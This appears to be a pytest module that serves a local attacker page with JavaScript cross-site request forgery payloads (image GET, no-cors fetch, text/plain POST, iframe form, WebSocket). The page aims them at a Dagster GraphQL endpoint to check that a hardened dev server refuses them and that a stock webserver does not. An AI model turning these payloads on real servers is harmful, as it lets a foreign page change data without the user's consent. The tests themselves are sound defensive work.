"""A page of another origin attacks a real `make dev` from a real browser, and nothing happens.

The same attacks are aimed at Dagster's web server as it comes, to show that they are ones.
"""

import os
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import dagster as dg
import pytest
from playwright.sync_api import BrowserContext, sync_playwright

from zwu_ts_assets_tests.browser import BROWSER_ARGUMENTS, browser_path
from zwu_ts_assets_tests.processes import Shell, stop_group
from zwu_ts_assets_tests.web_server import Server, dev_server, free_port, wait_until_it_answers

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LOCATIONS = "{ workspaceOrError { ... on Workspace { locationEntries { name } } } }"
PARTITIONS = "etth1_batches"
# Each way adds a partition of its own name to the batches of ETTh1.
MUTATION = """mutation { addDynamicPartition(repositorySelector: {
    repositoryName: "__repository__", repositoryLocationName: "LOCATION"},
    partitionsDefName: "etth1_batches", partitionKey: "NAME") { __typename } }"""
PAGE = """\
<!doctype html><title>attack</title><body><script>
const target = "TARGET";
const mutation = name => `MUTATION`.replace("NAME", name);
const inUrl = name => `${target}/graphql?query=${encodeURIComponent(mutation(name))}`;
const json = name => JSON.stringify({query: mutation(name)});
const image = url => new Promise(done => {
    const element = new Image();
    element.onload = element.onerror = done;
    element.src = url;
    document.body.append(element);
});
const frame = act => new Promise(done => {
    const element = document.createElement("iframe");
    element.name = "frame" + Math.random();
    document.body.append(element);
    element.onload = done;
    act(element);
});
const attempts = [
    () => image(inUrl("image")),
    () => fetch(inUrl("get"), {mode: "no-cors", credentials: "include"}),
    () => fetch(inUrl("post-url"), {method: "POST", mode: "no-cors", credentials: "include"}),
    () => fetch(target + "/graphql", {method: "POST", mode: "no-cors", credentials: "include",
        headers: {"Content-Type": "text/plain; x=application/json"}, body: json("post-body")}),
    () => fetch(target + "/graphql", {method: "POST", credentials: "include",
        headers: {"Content-Type": "application/json"}, body: json("preflight")}),
    () => frame(element => { element.src = inUrl("frame"); }),
    () => frame(element => {
        const form = document.createElement("form");
        form.method = "POST";
        form.action = inUrl("form");
        form.target = element.name;
        document.body.append(form);
        form.submit();
    }),
    () => new Promise(done => {
        const socket = new WebSocket(target.replace("http", "ws") + "/graphql", "graphql-ws");
        socket.onopen = () => { window.connected = true; done(); };
        socket.onerror = done;
    }),
];
window.connected = false;
window.attack = async () => {
    for (const attempt of attempts) {
        await Promise.race([attempt().catch(() => null), new Promise(r => setTimeout(r, 15000))]);
    }
    return window.connected;
};
</script>
"""


@contextmanager
def attacker(target: str, location: str) -> Iterator[str]:
    """The address of a web server whose page attacks another one of this machine."""
    mutation = MUTATION.replace("LOCATION", location)
    page = PAGE.replace("TARGET", target).replace("MUTATION", mutation)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            """Nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}"
        finally:
            server.shutdown()


@pytest.fixture
def browser() -> Iterator[BrowserContext]:
    """A browser in which the user has tabs of several sites."""
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=browser_path(), args=list(BROWSER_ARGUMENTS)
        )
        try:
            yield chromium.new_context()
        finally:
            chromium.close()


def attacked(browser: BrowserContext, page: str) -> bool:
    """Open the attacker's page and let it do all it can; whether its WebSocket was accepted."""
    tab = browser.new_page()
    tab.goto(page)
    return bool(tab.evaluate("attack()"))


def added(home: Path) -> set[str]:
    """The partitions that the attacks have added."""
    with dg.DagsterInstance.from_config(str(home)) as instance:
        return set(instance.get_dynamic_partitions(PARTITIONS)) - {"0"}  # the CSV's own batch


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    browser_path()  # before a server is started in vain
    return Shell(tmp_path / "project", batches=1)


def environment(shell: Shell) -> dict[str, str]:
    """Of a web UI whose sensor starts nothing."""
    return {**shell.environment, "ZWU_TS_SENSOR": "off"}


@pytest.mark.parametrize("options", [(), ("--no-token",)])
def test_a_foreign_page_does_nothing_to_make_dev(
    shell: Shell, browser: BrowserContext, options: tuple[str, ...]
) -> None:
    with dev_server(shell.log, environment(shell), options) as server:
        (location,) = server.ask(LOCATIONS)["workspaceOrError"]["locationEntries"]
        # The user has the web UI open: the browser has its cookie, and sends it to a page of the
        # same host as well.
        ui = browser.new_page()
        ui.goto(server.opened)
        ui.get_by_text("Runs", exact=True).first.wait_for()
        with attacker(server.address, location["name"]) as page:
            assert not attacked(browser, page)
            # By another name of this machine it is cross-site, which is the usual case.
            assert not attacked(browser, page.replace("127.0.0.1", "localhost"))
        assert added(shell.home) == set()
        # The user may do what the page could not.
        server.ask(MUTATION.replace("LOCATION", location["name"]).replace("NAME", "of-the-user"))
        assert added(shell.home) == {"of-the-user"}
        assert_closed(server, with_token=not options)
        ui.reload()
        ui.get_by_text("Runs", exact=True).first.wait_for()
        assert_that_interrupt_ends_it(server)


def assert_closed(server: Server, *, with_token: bool) -> None:
    """A name of the attacker's that leads to this machine, and a program without the token."""
    request = urllib.request.Request(server.address, headers={"Host": "attacker.example"})  # noqa: S310
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=60)  # noqa: S310
    assert refused.value.code == 403
    if with_token:
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(server.address, timeout=60)  # noqa: S310
        assert refused.value.code == 401


def assert_that_interrupt_ends_it(server: Server) -> None:
    """Ctrl-C ends web server, daemon and code servers, also while a page is open."""
    os.killpg(server.process.pid, signal.SIGINT)
    assert server.process.wait(timeout=120) == 0
    deadline = time.monotonic() + 60
    while members(server.process.pid):
        assert time.monotonic() < deadline, members(server.process.pid)
        time.sleep(0.2)


def members(group: int) -> list[int]:
    """The processes of a group that still run, by the kernel's own list."""
    found = []
    for file in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = file.read_text("ascii", "replace").rsplit(")")[-1].split()
        except OSError:  # it has ended
            continue
        if int(fields[2]) == group and fields[0] != "Z":
            found.append(int(file.parts[2]))
    return found


def test_the_attacks_are_ones(shell: Shell, browser: BrowserContext) -> None:
    port = free_port()
    command = [sys.executable, "-m", "dagster_webserver", "-m", "zwu_ts_assets"]
    with shell.log.open("w", encoding="utf-8") as output:
        bare = subprocess.Popen(
            [*command, "--port", str(port)],
            env=environment(shell),
            stdout=output,
            stderr=output,
            start_new_session=True,
        )
    try:
        address = f"http://127.0.0.1:{port}"
        wait_until_it_answers(address, bare, shell.log)
        with attacker(address, "zwu_ts_assets") as page:
            assert attacked(browser, page)
    finally:
        stop_group(bare)
    assert {"image", "get", "post-url", "post-body"} <= added(shell.home)
